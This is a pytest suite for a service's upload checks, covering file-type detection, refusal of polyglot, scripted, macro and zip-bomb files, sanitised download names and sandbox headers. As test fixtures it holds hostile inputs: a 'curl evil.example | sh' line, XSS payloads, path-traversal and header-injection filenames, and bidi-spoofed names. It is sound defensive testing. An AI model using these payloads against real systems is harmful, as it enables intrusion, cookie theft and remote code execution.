"""What is taken in as a file, and under which name and headers it goes out again."""

import io
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from urllib.parse import unquote

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.responses import PlainTextResponse

from deploy.local.settings import PROJECT_DIR
from shared.objects.downloads import attached, file_name
from shared.objects.errors import ContentTypeRefused
from shared.objects.intake import Intake
from shared.objects.media_types import ENDINGS, HEAD_BYTES, Judge, media_type_of
from shared.web.context import RequestContext

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <</Type/Catalog>> endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(2000)
JPEG = b"\xff\xd8\xff\xe0" + bytes(2000)
TIFF = b"II*\x00" + bytes(2000)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
LETTER = (
    "Sehr geehrte Frau Yıldız,\r\n\tanbei 3\u00a0Zeugnisse \u2014 ﷼ 🙂 می\u200cخواهم\f\n".encode()
)


def archive(**files: bytes) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
        made.comment = b"c" * 100
    return written.getvalue()


BOMB = archive(**{"bomb.txt": bytes(20_000_000)})
MACROS = archive(**{"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": OLE})
TAKEN = {
    "PDF": (PDF, "application/pdf"),
    "PNG": (PNG, "image/png"),
    "JPEG": (JPEG, "image/jpeg"),
    "TIFF": (TIFF, "image/tiff"),
    "a letter": (LETTER * 100, "text/plain"),
    "a letter with a mark of its order": (b"\xef\xbb\xbf" + LETTER, "text/plain"),
    "text that speaks of markup": ("Größe x < y, a & b".encode(), "text/plain"),
    "one character": (b"a", "text/plain"),
}
REFUSED = {
    "nothing": b"",
    "PDF that is a page": b"%PDF-1.7\n<!DOCTYPE html><script>alert(1)</script>" + PDF,
    "PDF that is a page in capitals": b"%PDF-1.7\n<HTML ><body onload=alert(1)>" + PDF,
    "JPEG with a script in its comment": JPEG[:20] + b"<script>alert(1)</script>" + JPEG,
    "PDF with an archive behind it": PDF * 20 + archive(program=b"x"),
    "PNG with an archive behind it": PNG + archive(program=b"x"),
    "PDF before an archive of macros": PDF + MACROS,
    "archive with the head of a PDF inside": archive(a=b"") + PDF,
    "PDF behind other bytes": b"\x00\x00" + PDF,
    "PDF behind text": b"Hello.\n" + b"%PDF-1.4\n1 0 obj",
    "GIF that is a script": b"GIF89a=1;alert(document.cookie)//",
    "GIF": b"GIF89a" + bytes(2000),
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "SVG behind blank and invisible": "\ufeff \n\u200b<svg onload=alert(1)/>".encode(),
    "SVG of XML": b"<?xml version='1.0'?><svg/>",
    "SVG in UTF-16": "<svg onload='alert(1)'/>".encode("utf-16"),
    "a page": b"<html><script>alert(1)</script>",
    "a page behind text": b"Guten Tag\n<script src=//evil.example></script>",
    "a page in UTF-7 with NUL": b"+ADw-script+AD4-\x00",
    "a script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "PostScript": b"%!PS-Adobe-3.0\n",
    "RTF": b"{\\rtf1\\object\\objdata 0105}",
    "a macro document": MACROS,
    "an old macro document": OLE,
    "a bomb": BOMB,
    "a bomb behind text": b"Sehr geehrte Damen und Herren,\n" * 100 + BOMB,
    "a program": b"MZ\x90\x00" * 400,
    "an archive in gzip": b"\x1f\x8b\x08" + bytes(2000),
    "text that ends as another": LETTER * 100 + b"\x00\x01\x02",
    "text that ends inside a character": LETTER * 100 + "ü".encode()[:1],
    "text in another encoding": "Müller".encode("latin-1"),
}


@pytest.mark.parametrize("name", TAKEN)
def test_documents_pictures_and_text_are_taken_as_what_they_are(name: str) -> None:
    content, media_type = TAKEN[name]
    assert media_type_of(content) == media_type


@pytest.mark.parametrize("name", REFUSED)
@pytest.mark.parametrize("piece", [1 << 30, 997])
async def test_what_is_two_things_or_runs_is_refused(name: str, piece: int) -> None:
    """However it comes; the bytes of a refused file may have passed, but it never ends well."""
    content = REFUSED[name]
    with pytest.raises(ContentTypeRefused):
        async for _ in Intake(_pieces(content, piece)).chunks():
            pass


async def _pieces(content: bytes, size: int) -> AsyncIterator[bytes]:
    for start in range(0, len(content), size):
        yield content[start : start + size]


@given(content=st.one_of(st.binary(max_size=3 * HEAD_BYTES), st.text(max_size=900).map(str.encode)),
       cut=st.integers(1, 2 * HEAD_BYTES))  # fmt: skip
def test_how_it_is_cut_changes_no_verdict(content: bytes, cut: int) -> None:
    def verdict(*pieces: bytes) -> str:
        judge = Judge()
        try:
            for piece in pieces:
                judge.take(piece)
            return judge.finish()
        except ContentTypeRefused:
            return "refused"

    assert verdict(content[:cut], content[cut:]) == verdict(content)


@pytest.mark.parametrize(
    ("given_name", "media_type", "shown"),
    [
        ("Zeugnis Müller", "application/pdf", "Zeugnis Müller.pdf"),
        ("Zeugnis.PDF", "application/pdf", "Zeugnis.pdf"),
        ("bild.jpeg", "image/jpeg", "bild.jpeg"),
        ("bescheid.pdf.bat", "text/plain", "bescheid.pdf.bat.txt"),
        ("seite.html", "text/plain", "seite.html.txt"),
        ("../../etc/passwd", "text/plain", "_.._etc_passwd.txt"),
        ("C:\\Windows\\system.ini", "text/plain", "C__Windows_system.ini.txt"),
        ("\u202egpj.exe", "image/png", "_gpj.exe.png"),
        ("a\u2066b\u2069c\u200ed", "image/png", "a_b_c_d.png"),
        ('x"; filename=evil.exe', "application/pdf", "x_; filename=evil.exe.pdf"),
        ("zeile\r\nSet-Cookie: a=b", "application/pdf", "zeile__Set-Cookie_ a=b.pdf"),
        ("nul\u0000l", "application/pdf", "nul_l.pdf"),
        ("CON.pdf", "application/pdf", "_CON.pdf"),
        ("...", "application/pdf", "_.pdf"),
        (".pdf", "application/pdf", "_.pdf"),
        ("نامه\u200cها", "application/pdf", "نامه\u200cها.pdf"),
        ("l" * 300, "application/pdf", "l" * 120 + ".pdf"),
    ],
)
def test_a_name_goes_out_harmless(given_name: str, media_type: str, shown: str) -> None:
    assert file_name(given_name, media_type) == shown
    said = attached(given_name, media_type)["Content-Disposition"]
    assert said.isascii()
    assert unquote(said.removeprefix("attachment; filename*=UTF-8''")) == shown


@given(name=st.text(max_size=300), media_type=st.sampled_from(sorted(ENDINGS)))
def test_no_name_leaves_its_folder_or_its_type(name: str, media_type: str) -> None:
    shown = file_name(name.encode(errors="replace").decode(), media_type)
    assert shown.endswith(ENDINGS[media_type])
    assert not re.search(r'[\x00-\x1f/\\:*?"<>|\u202a-\u202e\u2066-\u2069]', shown)
    assert not shown.startswith((".", " "))


async def test_every_attachment_is_sandboxed_whatever_its_endpoint_says() -> None:
    headers = {"Content-Disposition": 'attachment; filename="x"', "Content-Security-Policy": "a"}
    app = RequestContext(PlainTextResponse("x", headers=headers), is_production=True)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://x") as client:
        answer = await client.get("/")
    assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_nothing_is_offered_to_be_shown_in_place() -> None:
    """Every file that a program hands out is an attachment, and so sandboxed."""
    folders = ("gateway", "services", "shared")
    said = [
        (path.name, line.strip())
        for folder in folders
        for path in Path(PROJECT_DIR, folder).rglob("*.py")
        for line in path.read_text().splitlines()
        if '"Content-Disposition":' in line
    ]
    assert len(said) >= 8
    assert [one for one in said if "attachment" not in one[1]] == []
